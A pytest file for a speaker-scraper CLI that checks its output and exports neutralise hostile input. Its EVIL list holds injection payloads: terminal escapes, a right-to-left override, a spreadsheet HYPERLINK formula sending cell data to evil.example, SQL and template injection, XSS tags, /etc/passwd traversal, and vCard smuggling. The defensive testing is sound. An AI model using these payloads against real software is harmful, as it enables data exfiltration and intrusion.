"""A file full of text made to act: whatever every command prints or writes of it is text, and stays where it was asked for.

The people are put into the file as they are, past all reading: a file may come from somebody else, or from an older us.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3

import pytest
from invented import pull, put, speaker

from scraper.cli.export import FORMS
from scraper.model import Edition, LeftOut, Talk
from scraper.store import write

ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""What a terminal obeys: escape sequences' beginnings, marks that turn text round."""
EVIL = (
    "\x1b]0;owned\x07\x1b[2J Anna \u202egnp.exe\u2066",
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "'; DROP TABLE speakers; --",
    "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "../../../../etc/passwd\\..\\..\\con",
    "a\r\nBEGIN:VCARD\r\nFN:Somebody Else\r\nEND:VCARD\r\nBEGIN:VEVENT",
    "[click](javascript:alert(1)) ![x](file:///etc/passwd) [[wiki]] #tag",
    '" OR NEAR(a b) : * ^ { col } -x',
    "%s%n%x\\x1b[31m\x9b31m",
)  # fmt: skip
COMMANDS = [
    *(words.split() for words in (
        "speakers", "speakers --sort fit", "companies", "roles", "topics", "landscape", "shortlist list", "shortlist suggest", "today --all", "conferences --pulled", "changes", "review",
        "referrals", "insights", "doctor", "renormalise --dry-run", "expire --dry-run",
    )),
    *(["show", f"p-{number}", "--why"] for number in range(1, 4)),
    ["research", "p-1"], ["draft", "p-1"], ["draft", "p-5"], ["prepare", "p-1"], ["data", "p-1"],
]  # fmt: skip


@pytest.fixture
def run(run, own_home, monkeypatch, tmp_path):
    """Types one command in a folder of its own; gives its exit code, stdout and stderr."""
    monkeypatch.setenv("COFFEECHAT_NOW", "2026-05-12T09:00")
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")

    put(own_home / "speakers.db", acting)
    return run


def acting(file):
    """Everybody in the file is one of the texts, all of them on the shortlist."""
    with write.open_store(file) as database:
        people = [
            speaker(
                f"Anna {number} {text}", text, text, bio=text, talks=(text,), topics=(text,), headline=text, company=text,
                links=(f"https://a.example/{number}?{text.split()[0]}",),
            )
            for number, text in enumerate(EVIL)
        ]  # fmt: skip
        pull(
            database, people, edition=Edition(conference=EVIL[0], year=2026, url="https://c.example/"),
            talks=[Talk(title=text, speakers=(one.name,), abstract=text, track=text) for text, one in zip(EVIL, people, strict=True)],
            left_out=[LeftOut(name=text, reason="organiser") for text in EVIL],
        )  # fmt: skip
        for number in range(1, len(EVIL) + 1):
            write.add_to_shortlist(database, number, EVIL[0])


@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_what_is_printed_acts_on_no_terminal(run, words):
    code, out, err = run(*words)
    assert code in (0, 2, 4), err
    assert "Traceback" not in err
    assert ACTING.findall(out.replace("\r\n", "\n") + err) == []


@pytest.mark.parametrize("asked", ["", "--company", "--role", "--topic", "--conference", "--family"])
def test_words_that_are_a_language_find_or_do_not_find(run, own_home, asked):
    for text in EVIL:
        code, _, err = run("speakers", "--json", *([f"{asked}={text}"] if asked else ["--", text]))
        assert code in (0, 2, 4), err
        assert "Traceback" not in err
    with sqlite3.connect(own_home / "speakers.db") as file:
        assert file.execute("SELECT count(*) FROM speakers").fetchone()[0] == len(EVIL)
        assert file.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.mark.parametrize("form", FORMS)
def test_exports_stay_where_they_were_asked_for(run, tmp_path, own_home, form):
    before = {*tmp_path.rglob("*"), *own_home.rglob("*")}
    code, _, err = run("export", tmp_path / "here" / "out", "--as", form)
    assert code == 0, err
    new = {*tmp_path.rglob("*"), *own_home.rglob("*")} - before
    assert new
    companions = {own_home / f"speakers.db{ending}" for ending in ("-wal", "-shm")}  # SQLite's, of whoever reads
    assert [path for path in new - companions if not path.is_relative_to(tmp_path / "here" / "out")] == []
    assert all(re.fullmatch(r"[^\\/:*?\"<>|\x00-\x1f]+", path.name) and not path.name.startswith(".") for path in new)


def test_sheets_for_excel_compute_nothing_and_read_back(run, tmp_path):
    assert run("shortlist", "export", "people.csv", "--excel")[0] == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "here" / "people.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert len(rows) == len(EVIL) + 1
    assert [cell for row in rows for cell in row if cell.lstrip()[:1] in tuple("=+@|%")] == []


def test_cards_hold_one_person_each(run, tmp_path):
    assert run("export", "people.vcf")[0] == 0
    lines = (tmp_path / "here" / "people.vcf").read_bytes().decode().split("\r\n")
    assert sum(line == "BEGIN:VCARD" for line in lines) == len(EVIL)
    assert [line for line in lines if line.startswith(("FN:Somebody", "BEGIN:VEVENT"))] == []


@pytest.mark.parametrize("words", [["landscape", "--html", "a.html"], ["prepare", "p-5", "--html", "a.html"]])
def test_pages_to_print_hold_no_markup_of_theirs(run, tmp_path, words):
    code, _, err = run(*words)
    assert code == 0, err
    text = (tmp_path / "here" / "a.html").read_text(encoding="utf-8")
    assert "alert(1)" not in text or "&lt;" in text
    assert re.findall(r"<script|<img[^>]*onerror|href=\"javascript", text) == []


def test_json_is_json_whatever_stands_in_it(run):
    code, out, err = run("speakers", "--json")
    assert code == 0, err
    assert sorted(one["name"] for one in json.loads(out)) == sorted(f"Anna {n} {text}" for n, text in enumerate(EVIL))


@pytest.mark.parametrize("name", ["../escaped.csv", "no/such/folder.csv", "a" * 300 + ".csv"])
def test_a_name_to_write_to_is_taken_or_refused_in_one_line(run, tmp_path, name):
    code, _, err = run("shortlist", "export", name)
    assert "Traceback" not in err
    assert code in (0, 2, 6)
    assert (code == 0) is (tmp_path / "here" / ".." / "escaped.csv").exists()
